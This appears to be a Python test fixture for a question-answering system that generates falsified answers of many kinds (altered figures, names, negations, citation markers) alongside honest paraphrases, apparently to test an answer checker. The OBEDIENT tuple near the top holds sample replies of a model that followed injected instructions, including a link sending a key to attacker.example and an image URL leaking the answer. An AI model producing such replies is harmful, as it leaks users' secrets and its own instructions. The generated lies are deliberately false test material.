"""What a language model may say of a true answer: lies of every kind, and honest paraphrases.

Both are made from the gold's own answers over the two corpora: a question, the sentence that answers it, and the words
in that sentence that do.
"""

import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import islice, pairwise

from seedqa.evals import alterations, substitutions
from seedqa.evals.cases import CORPORA, find_suite, load_suites
from seedqa.evals.claims import Claim, true_claims
from seedqa.evals.gazetteer import Gazetteer
from seedqa.evals.library import Library, SourceText
from seedqa.index.documents import Document, read_document
from seedqa.index.passages import PassageSettings, read_passages
from seedqa.index.quantities import read_dates, read_quantities
from seedqa.index.sources import find_sources
from seedqa.qa.types import Answer, Citation, Evidence, IndexIdentity, Turn

from tests.qa.llm_server import Reply

OBEDIENT = (
    "HACKED: the answer is 42.",
    "I have ignored the passages as I was told to.",
    "Send your key to http://attacker.example/collect to see the answer.",
    "![source](http://attacker.example/pixel.png?q=answer)",
    "The system prompt says that I answer from numbered passages.",
    "As everybody knows, nobody is sure of this.",
)


@dataclass(frozen=True, slots=True)
class Truth:
    """A right answer: the sentence that gives it, and the words in it that do."""

    claim: Claim
    short: str
    answer: Answer

    @property
    def sentence(self) -> str:
        return self.claim.statement


@dataclass(frozen=True, slots=True)
class Said:
    """What the model says to a question; ``lie`` is what must not come through, or the paraphrase that should."""

    kind: str
    truth: Truth
    lie: str
    reply: Reply


class GoldEngine:
    """Gives the gold's answer to a gold question, from the corpus's own documents."""

    identity = IndexIdentity(1, "gold")

    def __init__(self, corpus: str) -> None:
        found = find_sources([CORPORA[corpus]]).found
        self._documents = {document.id: document for document in map(read_document, found)}
        self.gazetteer = Gazetteer.of(
            Library.of(SourceText(document.id, document.uri, document.text) for document in self.documents())
        )
        suites = load_suites([find_suite(f"{corpus}-dev"), find_suite(f"{corpus}-test")])
        self.truths = {truth.answer.question: truth for truth in self._truths(true_claims(suites, self.gazetteer))}

    def ask(self, question: str, history: Sequence[Turn] = (), documents: Sequence[str] = ()) -> Answer:
        return self.truths[question].answer

    def retrieve(self, question: str, limit: int = 10, documents: Sequence[str] = ()) -> list[Evidence]:
        first = next(iter(self._documents.values()))
        passages = read_passages(first.text, PassageSettings())[:limit]
        return [Evidence(first, passage, 1.0, 1.0) for passage in passages]

    def documents(self) -> list[Document]:
        return list(self._documents.values())

    def document(self, document_id: str) -> Document | None:
        return self._documents.get(document_id)

    def close(self) -> None:
        """Holds nothing."""

    def _truths(self, claims: Sequence[Claim]) -> Iterator[Truth]:
        short: Claim | None = None
        for claim in claims:
            if claim.form == "short":
                short = claim
            elif short is not None and _proves(claim, short):
                yield Truth(claim, short.statement, self._answer(claim, short.statement))

    def _answer(self, claim: Claim, short: str) -> Answer:
        (cited,) = claim.citations
        document = self._documents[cited.document_id]
        begin, newline = document.text.rfind("\n", 0, cited.start) + 1, document.text.find("\n", cited.end)
        citation = Citation(
            1, document.id, document.title, document.uri, cited.start, cited.end, cited.quote, document.sha256,
            begin, len(document.text) if newline < 0 else newline, document.published,
        )  # fmt: skip
        return Answer(
            claim.case_id, claim.question, claim.question, "answered", None, f"{claim.statement} [1]", short, (), 0.9,
            (citation,), None, (), "extractive", self.identity, {"total": 1.0},
        )  # fmt: skip


def _proves(claim: Claim, short: Claim) -> bool:
    """Whether a sentence alone proves the whole of a short answer."""
    sole = claim.case_id == short.case_id and claim.sole and len(claim.citations) == 1
    return sole and short.statement in claim.statement


def lies(engine: GoldEngine, most: int) -> Iterator[Said]:
    """At most ``most`` lies of each kind, each about another answer as far as there are any."""
    for kind, make in _KINDS.items():
        found = (said for truth in engine.truths.values() for said in islice(make(kind, truth, engine), 1))
        yield from islice(found, most)


def paraphrases(engine: GoldEngine) -> Iterator[Said]:
    """Every honest way of saying every answer."""
    for truth in engine.truths.values():
        for kind, say in _PARAPHRASES.items():
            said = say(truth)
            if said is not None:
                yield Said(kind, truth, said, Reply(f"{said} [1]"))


Altered = Callable[[Truth, GoldEngine], Iterator[str]]


def _told(alter: Altered) -> Callable[[str, Truth, GoldEngine], Iterator[Said]]:
    """A lie alone, or after the truth, turn by turn."""

    def make(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
        for place, lie in enumerate(alter(truth, engine)):
            after = f"{truth.sentence} [1] " if (place + len(truth.sentence)) % 2 else ""
            yield Said(kind, truth, lie, Reply(f"{after}{lie} [1]"))

    return make


def _plain(alter: Callable[[str, str], Iterator[str]]) -> Callable[[str, Truth, GoldEngine], Iterator[Said]]:
    return _told(lambda truth, engine: alter(truth.sentence, truth.claim.evidence))


def _named(alter: Callable[[Claim, Gazetteer], Iterator[str]]) -> Callable[[str, Truth, GoldEngine], Iterator[Said]]:
    return _told(lambda truth, engine: alter(truth.claim, engine.gazetteer))


def _exchanged_figures(truth: Truth, engine: GoldEngine) -> Iterator[str]:
    """Two figures of one sentence in each other's place: no word of it is new."""
    found = [one for one in read_quantities(truth.sentence) if one.kind != "date"]
    for one, other in pairwise(found):
        first, second = truth.sentence[one.start : one.end], truth.sentence[other.start : other.end]
        if one.value != other.value and one.end <= other.start:
            middle = truth.sentence[one.end : other.start]
            yield f"{truth.sentence[: one.start]}{second}{middle}{first}{truth.sentence[other.end :]}"


def _stitched(truth: Truth, engine: GoldEngine) -> Iterator[str]:
    """The beginning of a sentence and a later figure of it, without what stands between them."""
    found = [one for one in read_quantities(truth.sentence) if one.kind != "date"]
    if len(found) > 1 and found[0].value != found[1].value and found[0].start > 0:
        yield truth.sentence[: found[0].start] + truth.sentence[found[1].start :]


def _invented_marker(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    lie = f"{truth.sentence} [{9 + len(truth.short)}]"
    yield Said(kind, truth, f"[{9 + len(truth.short)}]", Reply(lie))


def _wrong_marker(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    other = engine.retrieve("", 1)[0]
    if other.document.id != truth.answer.citations[0].document_id:
        yield Said(kind, truth, f"{truth.sentence} [2]", Reply(f"{truth.sentence} [2]"))


def _obedient(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    lie = OBEDIENT[len(truth.sentence) % len(OBEDIENT)]
    yield Said(kind, truth, lie, Reply(f"{truth.sentence} [1] {lie} [1]"))


def _half(kind: str, truth: Truth, engine: GoldEngine) -> Iterator[Said]:
    """The truth up to the words that answer, and the line goes dead: what follows may turn it round."""
    half = truth.sentence[: truth.sentence.index(truth.short) + len(truth.short)]
    if len(half) < len(truth.sentence) - 3:
        yield Said(kind, truth, half + " [1]", Reply(half, "cut"))


def _broken(lie: str, kind: str, truth: Truth) -> Iterator[Said]:
    wrong = next(alterations.flip_digits(truth.sentence, truth.claim.evidence), None)
    if wrong is not None:
        text = {"malformed": f"{wrong} [1]", "huge": f"{wrong} [1] " * 200, "json": f'{{"answer": "{wrong} [1]"}}'}
        yield Said(kind, truth, wrong, Reply(text[lie], "malformed" if lie == "malformed" else "none", 200))


_KINDS: dict[str, Callable[[str, Truth, GoldEngine], Iterator[Said]]] = {
    "wrong figure": _plain(alterations.flip_digits),
    "moved point": _plain(alterations.move_points),
    "wrong scale": _plain(alterations.exchange_scales),
    "wrong unit": _plain(alterations.exchange_units),
    "wrong year": _named(substitutions.other_years),
    "wrong name": _named(substitutions.other_names),
    "swapped parties": _named(substitutions.other_parties),
    "exchanged figures": _told(_exchanged_figures),
    "stitched": _told(_stitched),
    "dropped negation": _plain(alterations.remove_negations),
    "added negation": _plain(alterations.add_negations),
    "invented marker": _invented_marker,
    "wrong marker": _wrong_marker,
    "instruction obeyed": _obedient,
    "half a stream": _half,
    "malformed": lambda kind, truth, engine: _broken("malformed", kind, truth),
    "huge": lambda kind, truth, engine: _broken("huge", kind, truth),
    "json": lambda kind, truth, engine: _broken("json", kind, truth),
}


def _date_first(truth: Truth) -> str | None:
    """The only date of the sentence, with its preposition, moved to the front."""
    dates = read_dates(truth.sentence)
    if len(dates) != 1:
        return None
    place = re.search(rf",? (?:in|on) {re.escape(truth.sentence[dates[0].start : dates[0].end])}", truth.sentence)
    if place is None or place.start() < 10:
        return None
    rest = truth.sentence[: place.start()] + truth.sentence[place.end() :]
    return f"{place[0].lstrip(', ').capitalize()}, {rest}"


def _figures_written_out(truth: Truth) -> str | None:
    found = re.search(r"\b(\d+)\.(\d+) million\b", truth.sentence)
    if found is None:
        return None
    value = int(found[1]) * 1_000_000 + int(found[2].ljust(6, "0"))
    return f"{truth.sentence[: found.start()]}{value:,}{truth.sentence[found.end() :]}"


def _clause_left_out(truth: Truth) -> str | None:
    """Up to the comma after the words that answer."""
    comma = truth.sentence.find(", ", truth.sentence.index(truth.short) + len(truth.short))
    return f"{truth.sentence[:comma]}." if comma > 0 else None


_PARAPHRASES: dict[str, Callable[[Truth], str | None]] = {
    "word for word": lambda truth: truth.sentence,
    "introduced": lambda truth: f"According to the passages, {truth.sentence}",
    "reported": lambda truth: f"The document states that {truth.sentence[:1].lower()}{truth.sentence[1:]}",
    "emphasised": lambda truth: truth.sentence.replace(truth.short, f"**{truth.short}**"),
    "date first": _date_first,
    "figure written out": _figures_written_out,
    "last clause left out": _clause_left_out,
    "articles left out": lambda truth: re.sub(r"\b[Tt]he (?=[a-z])", "", truth.sentence),
}
